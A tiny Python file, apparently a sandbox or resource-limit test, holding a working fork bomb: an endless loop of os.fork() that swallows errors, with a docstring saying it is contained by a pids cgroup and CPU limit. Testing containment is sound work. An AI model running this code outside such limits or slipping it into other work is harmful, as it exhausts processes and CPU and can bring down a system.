"""Fork bomb: fork without end. Contained by the pids cgroup and the CPU limit."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
